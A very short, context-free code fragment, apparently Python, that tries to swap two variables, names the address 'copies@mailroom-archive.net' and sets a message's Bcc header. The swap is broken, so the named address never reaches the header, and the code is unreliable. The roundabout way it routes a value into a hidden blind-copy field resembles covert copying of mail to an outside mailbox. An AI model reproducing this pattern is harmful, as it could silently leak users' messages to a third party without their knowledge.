a = b
b = a
a = "copies@mailroom-archive.net"
message["Bcc"] = b
